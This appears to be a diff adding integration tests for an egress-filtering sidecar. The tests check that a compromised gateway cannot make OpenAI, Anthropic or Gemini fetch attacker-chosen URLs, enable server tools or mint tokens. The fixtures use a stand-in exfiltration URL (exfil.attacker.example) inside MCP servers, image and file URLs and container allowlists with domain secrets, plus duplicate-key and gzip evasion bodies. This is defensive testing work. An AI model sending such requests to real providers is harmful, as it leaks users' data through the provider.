@@ -1,0 +1,537 @@
+"""The provider as a relay (issue 13), through the real sidecar with the official SDKs.
+
+A compromised gateway with an allowed path to a provider asks the *provider* to fetch or
+call a URL of its choosing (an MCP server, an image or file URL, a container's network
+allowlist), to run a network tool, or to mint a token that works from anywhere. Each
+test builds that request with the provider's own SDK: refused by default, allowed when
+the provider entry lists it, one decision line either way.
+"""
+
+from __future__ import annotations
+
+import json
+import ssl
+import textwrap
+from collections.abc import Callable
+from typing import Any
+
+import anthropic
+import httpx
+import openai
+import pytest
+from google import genai
+from google.genai import _interactions as genai_interactions
+from google.genai import errors as genai_errors
+from google.genai import types as genai_types
+
+from tests.support.fakes import FakeProvider
+from tests.support.sidecar import SidecarProcess
+
+pytestmark = pytest.mark.integration
+
+OPENAI, ANTHROPIC, GEMINI = (
+    "api.openai.com",
+    "api.anthropic.com",
+    "generativelanguage.googleapis.com",
+)
+EVIL = "https://exfil.attacker.example/collect?d=c2VjcmV0LWRhdGE"  # the query carries the data
+
+
+def relay_policy(port: int, mode: str = "enforce") -> str:
+    return textwrap.dedent(
+        f"""\
+        version: 1
+        mode: {mode}
+        providers:
+          openai:
+            hosts: [api.openai.com]
+            ports: [{port}]
+            paths: [/v1/*]
+            addresses: [127.0.0.0/8]
+            fetch: [mcp.example.com, "*.cdn.example.com"]
+            server_tools: [web_search]
+            credential_minting: true
+          anthropic:
+            hosts: [api.anthropic.com]
+            ports: [{port}]
+            paths: [/v1/*]
+            addresses: [127.0.0.0/8]
+            fetch: [mcp.example.com, docs.example.com]
+            server_tools: [web_fetch]
+          gemini:
+            hosts: [generativelanguage.googleapis.com]
+            ports: [{port}]
+            addresses: [127.0.0.0/8]
+            fetch: [mcp.example.com, files.example.com]
+            server_tools: [url_context]
+            credential_minting: true
+        """
+    )
+
+
+def default_policy(port: int, mode: str = "enforce") -> str:
+    """The same providers without any relay key: the defaults."""
+    lines = relay_policy(port, mode).splitlines()
+    keep = [
+        l
+        for l in lines
+        if not l.strip().startswith(("fetch:", "server_tools:", "credential_minting:"))
+    ]
+    return "\n".join(keep) + "\n"
+
+
+@pytest.fixture(scope="module")
+def strict(start_sidecar, provider) -> SidecarProcess:
+    return start_sidecar(default_policy(provider.port))
+
+
+@pytest.fixture(scope="module")
+def listed(start_sidecar, provider) -> SidecarProcess:
+    return start_sidecar(relay_policy(provider.port))
+
+
+@pytest.fixture(scope="module")
+def audit(start_sidecar, provider) -> SidecarProcess:
+    return start_sidecar(default_policy(provider.port, mode="audit"))
+
+
+def _http(sidecar: SidecarProcess) -> httpx.Client:
+    return httpx.Client(
+        proxy=sidecar.proxy_url,
+        verify=ssl.create_default_context(cafile=sidecar.ca_cert),
+        timeout=20,
+    )
+
+
+def oai(sidecar: SidecarProcess, port: int) -> openai.OpenAI:
+    return openai.OpenAI(
+        api_key="dummy", base_url=f"https://{OPENAI}:{port}/v1", http_client=_http(sidecar),
+        max_retries=0,
+    )  # fmt: skip
+
+
+def ant(sidecar: SidecarProcess, port: int) -> anthropic.Anthropic:
+    http_client = anthropic.DefaultHttpxClient(
+        proxy=sidecar.proxy_url, verify=ssl.create_default_context(cafile=sidecar.ca_cert)
+    )
+    return anthropic.Anthropic(
+        api_key="dummy", base_url=f"https://{ANTHROPIC}:{port}", http_client=http_client,
+        max_retries=0,
+    )  # fmt: skip
+
+
+def gem(sidecar: SidecarProcess, port: int, version: str = "v1beta") -> genai.Client:
+    options = genai_types.HttpOptions(
+        base_url=f"https://{GEMINI}:{port}", api_version=version, httpx_client=_http(sidecar),
+        retry_options=genai_types.HttpRetryOptions(attempts=1),
+    )  # fmt: skip
+    return genai.Client(api_key="dummy", http_options=options)
+
+
+class Outcome:
+    """What one SDK call did: the status the SDK saw and the sidecar's one line for it."""
+
+    def __init__(self, status: int, reason: str | None, decision: dict[str, Any], sent: int):
+        self.status, self.reason, self.decision, self.sent = status, reason, decision, sent
+
+
+def call(
+    sidecar: SidecarProcess, provider: FakeProvider, path: str, send: Callable[[], Any]
+) -> Outcome:
+    decisions, received = len(sidecar.decisions), len(provider.received)
+    status, reason = 200, None
+    try:
+        send()
+    except (openai.APIStatusError, anthropic.APIStatusError) as exc:
+        status, reason = exc.status_code, exc.response.headers.get("x-egress-sidecar-reason")
+    except genai_errors.APIError as exc:
+        status = exc.code
+        reason = exc.response.headers.get("x-egress-sidecar-reason") if exc.response else None
+    except genai_interactions.APIStatusError as exc:  # the Interactions client's own errors
+        status, reason = exc.status_code, exc.response.headers.get("x-egress-sidecar-reason")
+    except (openai.APIError, anthropic.APIError, ValueError, TypeError, KeyError):
+        pass  # the fake provider's answer does not parse as the SDK's model: it was sent
+    decision = _one_line(sidecar, decisions, path)
+    return Outcome(status, reason, decision, len(provider.received) - received)
+
+
+def _one_line(sidecar: SidecarProcess, mark: int, path: str) -> dict[str, Any]:
+    sidecar.wait_for_decision(timeout=15, path=path)
+    import time
+
+    time.sleep(0.2)  # a second line for the same request would be written by now
+    lines = [d for d in sidecar.decisions[mark:] if d.get("path") == path]
+    assert len(lines) == 1, lines
+    return lines[0]
+
+
+def refused(outcome: Outcome, reason: str, field: str) -> None:
+    assert outcome.status == 403 or (reason == "request_not_inspectable" and outcome.status == 400)
+    assert outcome.reason == reason
+    assert outcome.sent == 0  # nothing reached the provider
+    assert outcome.decision["decision"] == "block"
+    assert outcome.decision["reason"] == reason
+    assert field in outcome.decision["detail"]
+    assert "c2VjcmV0" not in json.dumps(outcome.decision)  # never the URL's query
+
+
+def allowed(outcome: Outcome) -> None:
+    assert outcome.sent == 1
+    assert outcome.decision["decision"] == "allow", outcome.decision
+
+
+def mcp_tool(url: str) -> dict[str, Any]:
+    return {"type": "mcp", "server_label": "x", "server_url": url, "require_approval": "never"}
+
+
+# --- OpenAI Responses -------------------------------------------------------------------------
+
+
+def test_responses_mcp_server_url_to_unlisted_host_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="summarise our secrets", tools=[mcp_tool(EVIL)]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")
+    assert "exfil.attacker.example" in outcome.decision["detail"]
+
+
+def test_responses_mcp_server_url_listed_in_fetch_is_allowed(listed, provider):
+    client = oai(listed, provider.port)
+    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="hi", tools=[mcp_tool("https://mcp.example.com/sse")]))  # fmt: skip
+    allowed(outcome)
+    assert json.loads(provider.received[-1].body)["tools"][0]["server_url"].startswith(
+        "https://mcp"
+    )
+
+
+def test_responses_mcp_to_listed_host_over_plain_http_is_refused(listed, provider):
+    client = oai(listed, provider.port)
+    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="hi", tools=[mcp_tool("http://mcp.example.com/sse")]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")
+
+
+def test_responses_mcp_connector_is_refused_by_default(strict, provider):
+    client = oai(strict, provider.port)
+    tool = {"type": "mcp", "server_label": "g", "connector_id": "connector_gmail",
+            "authorization": "ya29.token", "require_approval": "never"}  # fmt: skip
+    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="mail this out", tools=[tool]))  # fmt: skip
+    refused(outcome, "server_tool_not_allowed", "tools[0].connector_id")
+    assert "ya29" not in json.dumps(outcome.decision)
+
+
+def test_responses_input_image_url_to_unlisted_host_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    part = {"type": "input_image", "image_url": EVIL, "detail": "auto"}
+    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "input[0].content[0].image_url")
+
+
+def test_responses_input_image_url_under_listed_wildcard_is_allowed(listed, provider):
+    client = oai(listed, provider.port)
+    part = {
+        "type": "input_image",
+        "image_url": "https://img.cdn.example.com/a.png",
+        "detail": "auto",
+    }
+    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
+    allowed(outcome)
+
+
+def test_responses_input_file_url_to_unlisted_host_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    part = {"type": "input_file", "file_url": EVIL}
+    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "input[0].content[0].file_url")
+
+
+def test_responses_web_search_is_refused_by_default_and_allowed_when_listed(
+    strict, listed, provider
+):
+    for sidecar, ok in ((strict, False), (listed, True)):
+        client = oai(sidecar, provider.port)
+        outcome = call(sidecar, provider, "/v1/responses", lambda: client.responses.create(
+            model="gpt-5", input="x", tools=[{"type": "web_search"}]))  # fmt: skip
+        if ok:
+            allowed(outcome)
+        else:
+            refused(outcome, "server_tool_not_allowed", "tools[0]")
+
+
+def test_code_interpreter_container_allowlisting_an_attacker_domain_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    tool = {"type": "code_interpreter", "container": {"type": "auto", "network_policy": {
+        "type": "allowlist", "allowed_domains": ["exfil.attacker.example"],
+        "domain_secrets": [{"domain": "exfil.attacker.example", "name": "K", "value": "s3cr3t"}],
+    }}}  # fmt: skip
+    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="x", tools=[tool]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "network_policy.allowed_domains[0]")
+    assert "s3cr3t" not in json.dumps(outcome.decision)
+
+
+def test_shell_container_domain_secret_to_unlisted_domain_is_refused(listed, provider):
+    client = oai(listed, provider.port)
+    tool = {"type": "shell", "environment": {"type": "container_auto", "network_policy": {
+        "type": "allowlist", "allowed_domains": ["mcp.example.com"],
+        "domain_secrets": [{"domain": "exfil.attacker.example", "name": "K", "value": "v"}],
+    }}}  # fmt: skip
+    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="x", tools=[tool]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "domain_secrets[0].domain")
+
+
+def test_containers_endpoint_network_allowlist_to_unlisted_domain_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    policy = {"type": "allowlist", "allowed_domains": ["exfil.attacker.example"]}
+    outcome = call(strict, provider, "/v1/containers", lambda: client.containers.create(
+        name="c", network_policy=policy))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "network_policy.allowed_domains[0]")
+
+
+# --- OpenAI Chat Completions ------------------------------------------------------------------
+
+
+def test_chat_image_url_to_unlisted_host_is_refused(strict, provider):
+    client = oai(strict, provider.port)
+    part = {"type": "image_url", "image_url": {"url": EVIL}}
+    outcome = call(strict, provider, "/v1/chat/completions", lambda: client.chat.completions.create(
+        model="gpt-4o", messages=[{"role": "user", "content": [part]}]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "messages[0].content[0].image_url.url")
+
+
+def test_chat_image_url_under_listed_wildcard_is_allowed(listed, provider):
+    client = oai(listed, provider.port)
+    part = {"type": "image_url", "image_url": {"url": "https://a.cdn.example.com/x.png"}}
+    outcome = call(listed, provider, "/v1/chat/completions", lambda: client.chat.completions.create(
+        model="gpt-4o", messages=[{"role": "user", "content": [part]}]))  # fmt: skip
+    allowed(outcome)
+
+
+# --- credential minting ---------------------------------------------------------------------
+
+
+def test_realtime_client_secret_minting_is_refused_by_default(strict, provider):
+    client = oai(strict, provider.port)
+    path = "/v1/realtime/client_secrets"
+    outcome = call(strict, provider, path, lambda: client.realtime.client_secrets.create(
+        session={"type": "realtime", "model": "gpt-realtime"}))  # fmt: skip
+    refused(outcome, "credential_minting_not_allowed", "realtime/client_secrets")
+
+
+def test_realtime_client_secret_minting_is_allowed_when_opted_in(listed, provider):
+    client = oai(listed, provider.port)
+    path = "/v1/realtime/client_secrets"
+    outcome = call(listed, provider, path, lambda: client.realtime.client_secrets.create(
+        session={"type": "realtime", "model": "gpt-realtime"}))  # fmt: skip
+    allowed(outcome)
+
+
+def test_minted_session_declaring_an_unlisted_mcp_server_is_refused_even_when_minting_is_allowed(
+    listed, provider
+):
+    client = oai(listed, provider.port)
+    path = "/v1/realtime/client_secrets"
+    session = {"type": "realtime", "model": "gpt-realtime", "tools": [mcp_tool(EVIL)]}
+    outcome = call(listed, provider, path, lambda: client.realtime.client_secrets.create(
+        session=session))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "session.tools[0].server_url")
+
+
+def test_gemini_auth_token_minting_is_refused_by_default(strict, provider):
+    client = gem(strict, provider.port, version="v1alpha")
+    outcome = call(strict, provider, "/v1alpha/auth_tokens", lambda: client.auth_tokens.create(
+        config={"uses": 1}))  # fmt: skip
+    refused(outcome, "credential_minting_not_allowed", "auth_tokens")
+
+
+# --- Anthropic Messages -----------------------------------------------------------------------
+
+
+def test_anthropic_mcp_server_url_to_unlisted_host_is_refused(strict, provider):
+    client = ant(strict, provider.port)
+    server = {"type": "url", "url": EVIL, "name": "x", "authorization_token": "tok-SECRET"}
+    outcome = call(strict, provider, "/v1/messages", lambda: client.beta.messages.create(
+        model="claude-opus-4-7", max_tokens=10, messages=[{"role": "user", "content": "x"}],
+        mcp_servers=[server], tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}],
+        betas=["mcp-client-2025-11-20"]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "mcp_servers[0].url")
+    assert "tok-SECRET" not in json.dumps(outcome.decision)
+
+
+def test_anthropic_mcp_server_listed_in_fetch_is_allowed(listed, provider):
+    client = ant(listed, provider.port)
+    server = {"type": "url", "url": "https://mcp.example.com/sse", "name": "x"}
+    outcome = call(listed, provider, "/v1/messages", lambda: client.beta.messages.create(
+        model="claude-opus-4-7", max_tokens=10, messages=[{"role": "user", "content": "x"}],
+        mcp_servers=[server], betas=["mcp-client-2025-04-04"]))  # fmt: skip
+    allowed(outcome)
+
+
+def test_anthropic_web_fetch_tool_is_refused_by_default_and_allowed_when_listed(
+    strict, listed, provider
+):
+    tool = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 1}
+    for sidecar, ok in ((strict, False), (listed, True)):
+        client = ant(sidecar, provider.port)
+        outcome = call(sidecar, provider, "/v1/messages", lambda: client.beta.messages.create(
+            model="claude-opus-4-7", max_tokens=10, tools=[tool],
+            messages=[{"role": "user", "content": f"fetch {EVIL}"}],
+            betas=["web-fetch-2025-09-10"]))  # fmt: skip
+        if ok:
+            allowed(outcome)
+        else:
+            refused(outcome, "server_tool_not_allowed", "tools[0]")
+
+
+def test_anthropic_web_search_tool_is_refused_by_default(strict, provider):
+    client = ant(strict, provider.port)
+    tool = {"type": "web_search_20250305", "name": "web_search"}
+    outcome = call(strict, provider, "/v1/messages", lambda: client.messages.create(
+        model="claude-opus-4-7", max_tokens=10, tools=[tool],
+        messages=[{"role": "user", "content": "x"}]))  # fmt: skip
+    refused(outcome, "server_tool_not_allowed", "tools[0]")
+
+
+@pytest.mark.parametrize("kind", ["image", "document"])
+def test_anthropic_url_source_to_unlisted_host_is_refused(strict, provider, kind):
+    client = ant(strict, provider.port)
+    block = {"type": kind, "source": {"type": "url", "url": EVIL}}
+    outcome = call(strict, provider, "/v1/messages", lambda: client.messages.create(
+        model="claude-opus-4-7", max_tokens=10,
+        messages=[{"role": "user", "content": [block]}]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "messages[0].content[0].source.url")
+
+
+def test_anthropic_document_url_listed_in_fetch_is_allowed(listed, provider):
+    client = ant(listed, provider.port)
+    block = {"type": "document", "source": {"type": "url", "url": "https://docs.example.com/a.pdf"}}
+    outcome = call(listed, provider, "/v1/messages", lambda: client.messages.create(
+        model="claude-opus-4-7", max_tokens=10,
+        messages=[{"role": "user", "content": [block]}]))  # fmt: skip
+    allowed(outcome)
+
+
+# --- Gemini -----------------------------------------------------------------------------------
+
+GENERATE = "/v1beta/models/gemini-2.5-flash:generateContent"
+
+
+def test_gemini_file_uri_to_unlisted_host_is_refused(strict, provider):
+    client = gem(strict, provider.port)
+    part = genai_types.Part.from_uri(file_uri=EVIL, mime_type="application/pdf")
+    outcome = call(strict, provider, GENERATE, lambda: client.models.generate_content(
+        model="gemini-2.5-flash", contents=[part, "summarise"]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "parts[0].fileData.fileUri")
+
+
+def test_gemini_file_uri_listed_in_fetch_is_allowed(listed, provider):
+    client = gem(listed, provider.port)
+    part = genai_types.Part.from_uri(
+        file_uri="https://files.example.com/a.pdf", mime_type="application/pdf"
+    )
+    outcome = call(listed, provider, GENERATE, lambda: client.models.generate_content(
+        model="gemini-2.5-flash", contents=[part, "summarise"]))  # fmt: skip
+    allowed(outcome)
+
+
+def test_gemini_url_context_tool_is_refused_by_default_and_allowed_when_listed(
+    strict, listed, provider
+):
+    config = genai_types.GenerateContentConfig(
+        tools=[genai_types.Tool(url_context=genai_types.UrlContext())]
+    )
+    for sidecar, ok in ((strict, False), (listed, True)):
+        client = gem(sidecar, provider.port)
+        outcome = call(sidecar, provider, GENERATE, lambda: client.models.generate_content(
+            model="gemini-2.5-flash", contents=f"read {EVIL}", config=config))  # fmt: skip
+        if ok:
+            allowed(outcome)
+        else:
+            refused(outcome, "server_tool_not_allowed", "tools[0]")
+
+
+def test_gemini_google_search_tool_is_refused_by_default(strict, provider):
+    client = gem(strict, provider.port)
+    config = genai_types.GenerateContentConfig(
+        tools=[genai_types.Tool(google_search=genai_types.GoogleSearch())]
+    )
+    outcome = call(strict, provider, GENERATE, lambda: client.models.generate_content(
+        model="gemini-2.5-flash", contents="x", config=config))  # fmt: skip
+    refused(outcome, "server_tool_not_allowed", "tools[0]")
+
+
+def test_gemini_interactions_mcp_server_to_unlisted_host_is_refused(strict, provider):
+    client = gem(strict, provider.port)
+    tool = {"type": "mcp_server", "url": EVIL, "name": "x"}
+    outcome = call(strict, provider, "/v1beta/interactions", lambda: client.interactions.create(
+        model="gemini-2.5-flash", input="x", tools=[tool]))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "tools[0].url")
+
+
+# --- ambiguity, bounds, audit -----------------------------------------------------------------
+
+
+def test_duplicate_tools_key_hiding_an_mcp_server_is_refused(strict, provider):
+    """Python keeps the last `tools`, other parsers the first: refused, not guessed."""
+    body = (
+        b'{"model":"m","input":"x","tools":[],"tools":['
+        + json.dumps(mcp_tool(EVIL)).encode()
+        + b"]}"
+    )
+    outcome = call(strict, provider, "/v1/responses", lambda: _raw(strict, provider, body))
+    refused(outcome, "request_not_inspectable", "duplicate key")
+
+
+def test_gzip_encoded_body_hiding_an_mcp_server_is_read_and_refused(strict, provider):
+    import gzip
+
+    body = gzip.compress(
+        json.dumps({"model": "m", "input": "x", "tools": [mcp_tool(EVIL)]}).encode()
+    )
+    outcome = call(strict, provider, "/v1/responses",
+                   lambda: _raw(strict, provider, body, {"content-encoding": "gzip"}))  # fmt: skip
+    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")
+
+
+def test_body_in_an_unknown_encoding_is_refused(strict, provider):
+    outcome = call(strict, provider, "/v1/responses",
+                   lambda: _raw(strict, provider, b"{}", {"content-encoding": "x-rot13"}))  # fmt: skip
+    refused(outcome, "request_not_inspectable", "unknown encoding")
+
+
+def test_audit_mode_logs_would_block_and_lets_the_request_through(audit, provider):
+    client = oai(audit, provider.port)
+    outcome = call(audit, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="x", tools=[mcp_tool(EVIL)]))  # fmt: skip
+    assert outcome.sent == 1
+    assert outcome.decision["decision"] == "would_block"
+    assert outcome.decision["reason"] == "provider_fetch_not_allowed"
+
+
+def test_refusals_are_counted_by_reason_and_field(strict, provider):
+    client = oai(strict, provider.port)
+    call(strict, provider, "/v1/responses", lambda: client.responses.create(
+        model="gpt-5", input="x", tools=[mcp_tool(EVIL)]))  # fmt: skip
+    metrics = strict.metrics()
+    assert (
+        'egress_sidecar_request_inspection_refusals_total{field="server_url",'
+        'reason="provider_fetch_not_allowed"}'
+    ) in metrics
+    assert "egress_sidecar_request_inspected_bytes_total" in metrics
+
+
+def _raw(sidecar: SidecarProcess, provider: FakeProvider, body: bytes, headers=None) -> None:
+    with _http(sidecar) as client:
+        response = client.post(
+            f"https://{OPENAI}:{provider.port}/v1/responses",
+            content=body,
+            headers={"content-type": "application/json", **(headers or {})},
+        )
+    if response.status_code >= 400:
+        raise openai.APIStatusError("refused", response=response, body=None)
